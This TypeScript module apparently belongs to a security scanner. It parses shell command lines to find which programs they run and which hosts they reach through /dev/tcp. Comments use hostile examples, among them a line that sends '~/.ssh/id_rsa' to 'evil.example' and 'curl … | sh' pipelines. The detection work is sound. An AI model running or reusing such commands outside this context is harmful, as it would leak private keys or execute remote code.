import { parse } from "shell-quote";
import { SHELL_NAME } from "@/scanner/analysis/shell-line-patterns";

// Where a shell starts another command: after a separator, a pipe, an opening subshell or a
// process substitution.
const STARTS_COMMAND = new Set([";", ";;", "&&", "||", "|", "|&", "&", "(", "<(", ">("]);
// Redirections (`>`, `<>`, `<<<`, `&>>`, `>|`, …), whose next word is a file, not a command.
const REDIRECT = /^(?=.*[<>])[<>&|-]+$/;
// Words of the shell's own grammar that run nothing themselves and are followed by a command.
const KEYWORDS = new Set(["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "{", "}", "!"]);
// Grammar this reading does not follow (loops over lists, case clauses, function definitions,
// timed and background commands): a line that uses it runs what cannot be told from here.
const UNFOLLOWED = new Set(["for", "case", "esac", "select", "in", "function", "time", "coproc", "eval"]);
// Of those, the ones a command follows.
const PREFIXES = new Set(["time", "coproc"]);
// Builtins that run the command after them as it is (`exec curl …`, `command curl …`).
const BUILTIN_PREFIXES = new Set(["exec", "command", "builtin"]);
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?\+?=/;
// Parameter expansions (`${x#…}`, whose quotes follow rules of their own) and heredocs (lines of
// data): where the line's reading is unsure.
const UNSURE = /\$\{|(?<!<)<<(?!<)/;
// Folders of the system's own programs: `/usr/bin/git` is the git a manifest's `git` names.
const SYSTEM_BIN = /^\/(?:usr\/(?:local\/)?)?s?bin\/([^/]+)$|^\/opt\/homebrew\/bin\/([^/]+)$/;
// The analysis's mark for a part worked out at run time (static-value).
const UNKNOWN = "${…}";
// Longer lines (built up from constants) are not read: what they run is worked out at run time.
const MAX_LINE = 64 * 1024;
const MAX_NESTING = 8;

/**
 * The program a file name runs, as a manifest's `exec` names it: `git` for `git` or
 * `/usr/bin/git`, the whole path for one elsewhere (`/tmp/.x/git` is not the git a declared
 * `git` allows), undefined when a part is worked out at run time.
 */
export function programName(file: string): string | undefined {
  if (!file || file.includes(UNKNOWN)) return undefined;
  const system = SYSTEM_BIN.exec(file);
  return system ? (system[1] ?? system[2]) : file;
}

/** A program's name without its folder, of a POSIX or a Windows path (`C:\\Windows\\System32\\cmd.exe` is cmd.exe). */
export const baseName = (program: string) => program.split(/[\\/]/).at(-1)!;

// Programs that run the script they are given, or what their input says: shells and interpreters.
const INTERPRETERS = new RegExp(String.raw`^(?:${SHELL_NAME}|fish|busybox|cmd|powershell|pwsh|python[\d.]*|perl|ruby|irb|php|node|lua|osascript)(?:\.exe)?$`, "i");
/** Whether a program (by name or path) is a shell or an interpreter. */
export const isInterpreter = (program: string) => INTERPRETERS.test(baseName(program));

/**
 * The programs a shell command line runs (`git status; curl … | sh` runs git, curl and sh), each
 * as programName gives it, and undefined for one that cannot be known: a part of the line worked
 * out at run time (it may hold `; curl …` of its own), a variable in command position, a program
 * found through a changed PATH, a line the parser refuses. Command substitutions (`$(…)`,
 * `` `…` ``, also in double quotes and in arithmetic) run lines of their own. Where the reading
 * is unsure it reports more, not less: a `#` inside a word, which shell-quote takes for a
 * comment, is read on, and grammar it does not follow (`for`, `case`, functions, heredocs,
 * parameter expansions) adds a command worked out at run time.
 */
export function shellCommands(line: string, { depth = 0, startsCommand = true, pathChanged: pathChangedBefore = false } = {}): (string | undefined)[] {
  if (line.length > MAX_LINE || depth > MAX_NESTING) return [undefined];
  const commands: (string | undefined)[] = line.includes(UNKNOWN) || UNSURE.test(line.replaceAll(UNKNOWN, "")) ? [undefined] : [];
  const { rest, inner, unbalanced } = substitutions(line);
  if (unbalanced) commands.push(undefined);
  let tokens: ReturnType<typeof parse>;
  try {
    tokens = parse(rest.replaceAll(UNKNOWN, "\u0000"), (name) => `$${name}`);
  } catch {
    return [...commands, undefined];
  }
  let expectCommand = startsCommand;
  let prefixed = false;
  let redirected = false;
  // A PATH changed before the line (`env: { PATH }`) or in it makes a bare name any program.
  let pathChanged = pathChangedBefore;
  tokens.forEach((token, at) => {
    // After a `#` inside a word (`--format=%H#%s; curl …`) the shell reads on: so does this, the
    // word going on.
    if (typeof token === "object" && "comment" in token) {
      commands.push(...shellCommands(token.comment, { depth: depth + 1, startsCommand: false, pathChanged }));
      return;
    }
    if (typeof token === "object" && "op" in token && token.op !== "glob") {
      redirected = REDIRECT.test(token.op);
      if (STARTS_COMMAND.has(token.op)) {
        expectCommand = true;
        prefixed = false;
      }
      return;
    }
    const word = typeof token === "string" ? token : "pattern" in token ? String(token.pattern) : "";
    const next = tokens[at + 1];
    const nextOp = typeof next === "object" && "op" in next ? next.op : undefined;
    // A changed PATH (`PATH=/tmp/x:$PATH git`, `export PATH=…; git`) changes which program every
    // later name runs.
    pathChanged ||= /^PATH\+?=/.test(word);
    if (redirected || (/^\d+$/.test(word) && nextOp !== undefined && REDIRECT.test(nextOp))) {
      redirected = false;
      return;
    }
    // `a=(git) curl …` and `git() { … }`: an array or a function of the line's own.
    if (nextOp === "(" && (ASSIGNMENT.test(word) || expectCommand)) commands.push(undefined);
    if (!expectCommand || ASSIGNMENT.test(word) || KEYWORDS.has(word)) return;
    if (BUILTIN_PREFIXES.has(word)) {
      prefixed = true;
      return;
    }
    expectCommand = false;
    // `exec -a name curl …`, `command -p git`: options of the prefix, whose command is not read.
    if (prefixed && word.startsWith("-")) {
      commands.push(undefined);
      return;
    }
    if (UNFOLLOWED.has(word)) {
      commands.push(undefined);
      expectCommand = PREFIXES.has(word);
      return;
    }
    commands.push((pathChanged && !word.includes("/")) || word.includes("\u0000") || word.includes("$") ? undefined : programName(word));
  });
  for (const text of inner) commands.push(...shellCommands(text, { depth: depth + 1, pathChanged }));
  return commands;
}

/**
 * A line with its command substitutions (`$(…)`, `` `…` ``, outside single quotes) taken out,
 * each replaced by a word, and its newlines outside quotes made `;` (shell-quote reads a line);
 * quotes and escapes are followed as the shell follows them.
 */
function substitutions(line: string): { rest: string; inner: string[]; unbalanced: boolean } {
  const inner: string[] = [];
  let rest = "";
  let quote: "'" | '"' | undefined;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quote === "'") {
      if (c === "'") quote = undefined;
      rest += c;
      continue;
    }
    if (c === "\\") {
      // A backslash before a newline joins the lines; before anything else it keeps that character as it is.
      if (line[i + 1] !== "\n") rest += c + (line[i + 1] ?? "");
      i++;
      continue;
    }
    if (c === '"' || (c === "'" && quote === undefined)) {
      quote = quote === c ? undefined : quote ?? c;
      rest += c;
      continue;
    }
    // A comment runs to the end of its line, quotes in it and all.
    if (c === "#" && quote === undefined && /^$|[\s;&|()]$/.test(line[i - 1] ?? "")) {
      while (i + 1 < line.length && line[i + 1] !== "\n") i++;
      continue;
    }
    const end = c === "`" ? closingBacktick(line, i + 1) : c === "$" && line[i + 1] === "(" ? closingParen(line, i + 2) : undefined;
    if (end === -1) return { rest, inner, unbalanced: true };
    if (end !== undefined) {
      inner.push(line.slice(c === "`" ? i + 1 : i + 2, end));
      // What a substitution prints is worked out at run time: as a command's name, so is the command.
      rest += "\u0000";
      i = end;
      continue;
    }
    rest += (c === "\n" || c === "\r") && quote === undefined ? ";" : c;
  }
  return { rest, inner, unbalanced: quote !== undefined };
}

function closingBacktick(line: string, from: number): number {
  for (let i = from; i < line.length; i++) {
    if (line[i] === "\\") i++;
    else if (line[i] === "`") return i;
  }
  return -1;
}

/** The `)` that closes a `$(` whose content starts at `from`, past quotes, escapes and nested parentheses, or -1. */
function closingParen(line: string, from: number): number {
  let level = 1;
  let quote: "'" | '"' | undefined;
  for (let i = from; i < line.length; i++) {
    const c = line[i];
    if (quote === "'") {
      if (c === "'") quote = undefined;
    } else if (c === "\\") i++;
    else if (c === '"' || c === "'") quote = quote === c ? undefined : quote ?? c;
    else if (quote === undefined && c === "(") level++;
    else if (quote === undefined && c === ")" && --level === 0) return i;
  }
  return -1;
}

// Shells that run a command line given with -c (`bash -lc "git status"`), and their options
// that take a value (`-o pipefail`), which is not the line.
const SHELLS = new RegExp(String.raw`^(?:${SHELL_NAME}|fish)$`);
const VALUED_OPTIONS = new Set(["-o", "+o", "-O", "+O"]);
// Programs that run the command their arguments name, and their options that take a value.
const RUNS_ITS_ARGUMENTS = new Set(["env", "sudo", "doas", "nohup", "nice", "setsid", "stdbuf", "timeout"]);
const VALUED_PREFIX_OPTIONS = new Set(["-u", "-g", "-n", "-C"]);

/**
 * The command line a shell's arguments give it to run (`["-lc", "git status"]` of bash, also after
 * a prefix, `env bash -c …`, `sudo sh -c …`), as far as it is known; undefined when the program is
 * no shell, or is given no line with -c.
 */
export function shellScript(program: string | undefined, words: readonly string[]): string | undefined {
  const name = program?.slice(program.lastIndexOf("/") + 1);
  if (name !== undefined && RUNS_ITS_ARGUMENTS.has(name)) {
    // `env FOO=1 bash -c …`, `sudo -u deploy sh -c …`, `timeout 30 bash -c …`: the program named after the prefix's own words.
    let i = 0;
    while (i < words.length && (words[i]!.startsWith("-") || (name === "env" && /^\w+=/.test(words[i]!)))) i += VALUED_PREFIX_OPTIONS.has(words[i]!) ? 2 : 1;
    if (name === "timeout") i++;
    return shellScript(words[i], words.slice(i + 1));
  }
  if (name === undefined || !SHELLS.test(name)) return undefined;
  let given = false;
  for (let i = 0; i < words.length; i++) {
    const word = words[i]!;
    if (VALUED_OPTIONS.has(word)) i++;
    else if (/^[-+][a-zA-Z]+$/.test(word)) given ||= word[0] === "-" && word.includes("c");
    else if (!word.startsWith("--")) return given ? word : undefined;
  }
  return undefined;
}

/**
 * The hosts a shell line connects to through bash's `/dev/tcp/host/port` and `/dev/udp/…` files
 * (`cat ~/.ssh/id_rsa > /dev/tcp/evil.example/443`), undefined for one worked out at run time.
 */
export function shellConnections(line: string): (string | undefined)[] {
  return [...line.matchAll(/\/dev\/(?:tcp|udp)\/([^/\s'"]*)/g)].map(([, host]) => (!host || host.includes("$") || host.includes("…") ? undefined : host.toLowerCase()));
}
